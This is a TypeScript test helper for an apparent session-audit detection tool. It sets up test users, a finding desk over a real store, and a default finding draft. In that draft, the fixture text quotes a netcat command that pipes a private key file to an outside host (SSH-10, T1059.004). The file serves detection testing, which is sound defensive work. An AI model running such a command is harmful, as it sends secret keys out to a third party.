/** A desk over a real store, with people around it. */
import { pino } from 'pino'
import { Aliases } from '../../../src/analysis/findings/aliases.ts'
import type { Answer, Asker, FindingDesk } from '../../../src/analysis/findings/desk.ts'
import type { FindingDraft } from '../../../src/analysis/findings/finding.ts'
import { openFindingDesk } from '../../../src/analysis/findings/open-desk.ts'
import type { AuditEvent } from '../../../src/audit/audit-log.ts'
import type { AnalysisConfig, Config } from '../../../src/config/config.ts'
import type { FindingRow, SessionRow } from '../../../src/model.ts'
import { openStore } from '../../../src/store/sqlite-store.ts'
import type { Store } from '../../../src/store/store.ts'
import { FakeClock } from '../../support/fake-clock.ts'
import { NOON, personWith, policyWith, sessionOf } from '../../policy/people.ts'
import { dataFolder } from '../../store/rows.ts'
import { newFolder } from '../../support/scratch.ts'

const roles = `
ops: { members: { groups: [ops] }, allow: [{ targets: { protocol: ssh }, logins: [root] }] }
auditor: { members: { groups: [audit] }, review: { targets: { labels: { env: prod } } } }
dpo: { members: { groups: [dpo] }, review: { targets: { name: lab } } }
`

/** Reviews production; so does Carl. */
export const ann: Asker = { kind: 'person', principal: personWith({ groups: ['audit'] }) }
export const carl: Asker = {
  kind: 'person',
  principal: personWith({ subject: 'carl-3', name: 'carl@example.com', groups: ['audit'] }),
}
/** Approves names. */
export const dora: Asker = {
  kind: 'person',
  principal: personWith({ subject: 'dora-4', name: 'dora@example.com', groups: ['dpo'] }),
}
/** Reviews, and has sessions: those of `sessionOf`. */
export const bob: Asker = {
  kind: 'person',
  principal: personWith({ subject: 'bob-2', name: 'bob@example.com', groups: ['audit', 'ops', 'dpo'] }),
}
export const local: Asker = { kind: 'local', name: 'local user 0' }

/** Of an answer that is no refusal. */
export function valueOf<T>(answer: Answer<T>): T {
  if (!answer.ok) throw new Error(answer.text)
  return answer.value
}

export type DeskWorld = {
  readonly desk: FindingDesk
  readonly store: Store
  readonly clock: FakeClock
  readonly audited: AuditEvent[]
  readonly told: FindingRow[]
  readonly taught: string[]
  readonly config: Config
  readonly session: (row: Partial<SessionRow> & { id: string }) => Promise<SessionRow>
  /** The id of the finding that it became. */
  readonly find: (draft?: Partial<FindingDraft>) => Promise<string>
}

const opened: Store[] = []
export async function closeDesks(): Promise<void> {
  for (const store of opened.splice(0)) await store.close()
}

export async function deskWith(
  analysis: Partial<AnalysisConfig> = {},
  keys = newFolder('keys'),
): Promise<DeskWorld> {
  const store = await openStore(dataFolder())
  opened.push(store)
  const clock = new FakeClock(NOON)
  const before = policyWith(roles)
  const config: Config = { ...before, analysis: { ...before.analysis, sampleShare: 0, ...analysis } }
  const audited: AuditEvent[] = []
  const told: FindingRow[] = []
  const taught: string[] = []
  const desk = openFindingDesk({
    store: store.findings,
    sessions: store.sessions,
    audit: { append: event => void audited.push(event) },
    clock,
    log: pino({ level: 'silent' }),
    config: () => config,
    aliases: new Aliases(keys, clock.nowMs()),
    onFinding: row => void told.push(row),
    profiles: {
      teach: session => void taught.push(session),
      inWords: async () => ({ events: 3000, sinceMs: NOON, text: ['ls: 100 times'] }),
    },
  })
  const session = async (row: Partial<SessionRow> & { id: string }): Promise<SessionRow> => {
    const whole = sessionOf(row)
    await store.sessions.insert(whole)
    return whole
  }
  await session({ id: 's1' })
  const find = async (draft: Partial<FindingDraft> = {}): Promise<string> => {
    const whole = draftOf(draft)
    await desk.take(whole)
    const row = (await store.findings.ofSession(whole.session)).find(({ group }) => group === whole.group)
    if (row === undefined) throw new Error('the draft became no finding')
    return row.id
  }
  return { desk, store, clock, audited, told, taught, config, session, find }
}

export function draftOf(draft: Partial<FindingDraft> = {}): FindingDraft {
  return {
    session: 's1',
    group: 'SSH-10',
    kind: 'rule',
    severity: 'high',
    rules: ['SSH-10'],
    atMs: NOON,
    body: {
      sentence: 'A shell over the network: seen once in this session, 00:00:01 after its start.',
      why: [{ observed: 'A shell was connected to the network.', entry: 1, offsetMs: 1000 }],
      quotes: [{ entry: 1, offsetMs: 1000, text: 'cat /home/bob/key | nc bob.example.net 1' }],
      techniques: [{ id: 'T1059.004', name: 'Unix Shell' }],
      benign: ['a test of the network'],
      quality: ['exact'],
      versions: { rules: 'r1' },
    },
    ...draft,
  }
}
